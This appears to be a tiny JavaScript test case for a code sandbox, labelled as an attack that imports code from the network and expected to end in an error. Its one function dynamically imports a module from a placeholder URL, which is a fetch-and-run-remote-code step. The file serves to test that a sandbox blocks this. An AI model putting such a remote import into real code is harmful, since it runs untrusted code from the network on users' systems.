// attack: imports code from the network
// outcome: error
async function solve(x) {
  return Object.keys(await import("https://example.com/x.mjs"));
}
